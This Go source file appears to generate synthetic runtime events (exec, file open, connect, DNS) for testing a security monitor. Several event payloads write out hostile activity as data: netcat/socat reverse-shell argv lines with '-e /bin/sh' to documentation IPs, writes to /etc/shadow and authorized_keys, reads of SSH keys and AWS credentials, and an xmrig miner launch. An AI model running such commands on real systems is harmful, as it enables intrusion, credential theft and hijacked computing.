package main

import (
	"fmt"
	"math/rand"
	"time"

	"pulsar/core"

	"github.com/google/uuid"
)

// Event types produced by the generator
const (
	TypeExec    = "Exec"
	TypeOpen    = "Open"
	TypeConnect = "Connect"
	TypeDNS     = "DnsQuery"
)

// EventGenerator generates realistic runtime events
type EventGenerator struct {
	rand   *rand.Rand
	source string
	now    func() time.Time
}

// NewEventGenerator creates a generator seeded with seed. A zero seed uses the clock.
func NewEventGenerator(seed int64) *EventGenerator {
	if seed == 0 {
		seed = time.Now().UnixNano()
	}
	return &EventGenerator{
		rand:   rand.New(rand.NewSource(seed)),
		source: "eventgen",
		now:    func() time.Time { return time.Now().UTC() },
	}
}

func (g *EventGenerator) newEvent(eventType, image string, pid int) *core.Event {
	return &core.Event{
		Header: core.Header{
			EventID:   uuid.New().String(),
			Source:    g.source,
			Timestamp: g.now(),
			Image:     image,
			Pid:       pid,
		},
		Type:    eventType,
		Payload: make(map[string]interface{}),
	}
}

// GenerateExecEvent generates a process execution. Suspicious events run a
// tool commonly used for reverse shells.
func (g *EventGenerator) GenerateExecEvent(suspicious bool) *core.Event {
	filename := g.randomStringChoice([]string{"/usr/bin/ls", "/usr/bin/cat", "/usr/bin/grep", "/usr/bin/python3"})
	argv := []interface{}{filename}
	if suspicious {
		filename = g.randomStringChoice([]string{"/usr/bin/nc", "/usr/bin/ncat", "/usr/bin/socat"})
		argv = []interface{}{filename, "-e", "/bin/sh", g.randomIP(true), "4444"}
	}

	parent := g.randomStringChoice([]string{"/bin/bash", "/usr/sbin/sshd", "/usr/bin/containerd-shim"})
	event := g.newEvent(TypeExec, parent, g.randomPid())
	event.Payload["filename"] = filename
	event.Payload["argv"] = argv
	event.Payload["argc"] = len(argv)
	return event
}

// GenerateOpenEvent generates a file open. Suspicious events open a credential file for writing.
func (g *EventGenerator) GenerateOpenEvent(sensitive bool) *core.Event {
	path := g.randomStringChoice([]string{"/var/log/app.log", "/tmp/cache.db", "/etc/hosts", "/home/user/notes.txt"})
	flags := []interface{}{"O_RDONLY"}
	if sensitive {
		path = g.randomStringChoice([]string{"/etc/shadow", "/etc/sudoers", "/root/.ssh/authorized_keys"})
		flags = []interface{}{"O_WRONLY", "O_APPEND"}
	}

	event := g.newEvent(TypeOpen, g.randomStringChoice([]string{"/usr/bin/vim", "/usr/bin/python3", "/usr/sbin/nginx"}), g.randomPid())
	event.Payload["path"] = path
	event.Payload["flags"] = flags
	return event
}

// GenerateConnectEvent generates an outbound connection
func (g *EventGenerator) GenerateConnectEvent(external bool) *core.Event {
	event := g.newEvent(TypeConnect, g.randomStringChoice([]string{"/usr/bin/curl", "/usr/bin/wget", "/usr/sbin/nginx"}), g.randomPid())
	event.Payload["destination"] = map[string]interface{}{
		"ip":   g.randomIP(external),
		"port": g.randomIntChoice([]int{22, 53, 80, 443, 4444, 5432}),
	}
	event.Payload["protocol"] = "tcp"
	return event
}

// GenerateDNSEvent generates a DNS lookup
func (g *EventGenerator) GenerateDNSEvent(suspicious bool) *core.Event {
	domain := g.randomStringChoice([]string{"example.com", "api.github.com", "registry.npmjs.org"})
	if suspicious {
		domain = fmt.Sprintf("%08x.pool.minexmr.com", g.rand.Uint32())
	}

	event := g.newEvent(TypeDNS, "/usr/lib/systemd/systemd-resolved", g.randomPid())
	event.Payload["question"] = map[string]interface{}{
		"domain": domain,
		"type":   "A",
	}
	return event
}

// GenerateRandomEvent picks an event type at random, with a small share of suspicious events
func (g *EventGenerator) GenerateRandomEvent() *core.Event {
	switch g.rand.Intn(4) {
	case 0:
		return g.GenerateExecEvent(g.rand.Float32() < 0.1)
	case 1:
		return g.GenerateOpenEvent(g.rand.Float32() < 0.05)
	case 2:
		return g.GenerateConnectEvent(g.rand.Float32() < 0.3)
	default:
		return g.GenerateDNSEvent(g.rand.Float32() < 0.05)
	}
}

// GenerateReverseShellScenario generates a process spawning a shell tool
// followed by its outbound connection, sharing the same pid.
func (g *EventGenerator) GenerateReverseShellScenario(externalIP string) []*core.Event {
	exec := g.GenerateExecEvent(true)
	exec.Payload["argv"] = []interface{}{exec.Payload["filename"], "-e", "/bin/sh", externalIP, "4444"}

	conn := g.newEvent(TypeConnect, exec.Payload["filename"].(string), exec.Header.Pid)
	conn.Payload["destination"] = map[string]interface{}{"ip": externalIP, "port": 4444}
	conn.Payload["protocol"] = "tcp"

	return []*core.Event{exec, conn}
}

// GenerateCredentialAccessScenario generates repeated reads of credential files by one process
func (g *EventGenerator) GenerateCredentialAccessScenario(count int) []*core.Event {
	pid := g.randomPid()
	paths := []string{"/etc/shadow", "/etc/passwd", "/root/.ssh/id_rsa", "/root/.aws/credentials"}

	events := make([]*core.Event, 0, count)
	for i := 0; i < count; i++ {
		event := g.newEvent(TypeOpen, "/usr/bin/python3", pid)
		event.Payload["path"] = paths[i%len(paths)]
		event.Payload["flags"] = []interface{}{"O_RDONLY"}
		events = append(events, event)
	}
	return events
}

// GenerateCryptominerScenario generates mining pool lookups followed by a miner start
func (g *EventGenerator) GenerateCryptominerScenario(lookups int) []*core.Event {
	events := make([]*core.Event, 0, lookups+1)
	for i := 0; i < lookups; i++ {
		events = append(events, g.GenerateDNSEvent(true))
	}

	miner := g.newEvent(TypeExec, "/bin/sh", g.randomPid())
	miner.Payload["filename"] = "/tmp/.x/xmrig"
	miner.Payload["argv"] = []interface{}{"/tmp/.x/xmrig", "--donate-level", "1"}
	miner.Payload["argc"] = 3
	return append(events, miner)
}

func (g *EventGenerator) randomIP(external bool) string {
	if external {
		// TEST-NET-3
		return fmt.Sprintf("203.0.113.%d", g.rand.Intn(254)+1)
	}
	return fmt.Sprintf("10.0.%d.%d", g.rand.Intn(4), g.rand.Intn(254)+1)
}

func (g *EventGenerator) randomPid() int {
	return 1000 + g.rand.Intn(60000)
}

func (g *EventGenerator) randomStringChoice(choices []string) string {
	return choices[g.rand.Intn(len(choices))]
}

func (g *EventGenerator) randomIntChoice(choices []int) int {
	return choices[g.rand.Intn(len(choices))]
}
